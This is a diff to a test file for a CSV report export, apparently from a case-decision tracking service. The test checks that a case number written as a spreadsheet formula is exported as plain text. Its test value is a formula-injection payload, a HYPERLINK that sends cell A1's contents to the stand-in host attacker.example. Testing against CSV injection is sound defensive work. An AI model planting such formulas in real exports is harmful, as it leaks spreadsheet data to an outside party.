@@ -202,13 +202,15 @@ describe('field suggestions are off where introspection is', () => {
 describe('CSV export: no cell is a formula', () => {
   it('writes a case number that is a formula as text', async () => {
     const caseNumber = `=HYPERLINK("http://attacker.example/?x=${uniqueTag()}"&A1,"open")`;
+    // Synthetic decisions are left out of the export unless asked for: this one is reported.
     const row = countRow({
       case_number: caseNumber,
-      decision_date: '2011-04-04',
-      offence_date: '2010-02-02',
+      provenance: 'REPORTED',
+      source_url: 'https://news.example/r',
     });
-    await new ImportService(unitOfWork(server.dataSource), 'inline').importFile(toCsv([row]), 'csv');
-    const res = await fetch(server.url.replace('/graphql', '/reports/findings.csv?year=2011'), {
+    const importer = new ImportService(unitOfWork(server.dataSource), 'inline');
+    expect((await importer.importFile(toCsv([row]), 'csv')).decisions.created).toBe(1);
+    const res = await fetch(server.url.replace('/graphql', '/reports/findings.csv?year=2016'), {
       headers: { authorization: `Bearer ${monitorKey}` },
     });
     const lines = (await res.text()).split('\n');
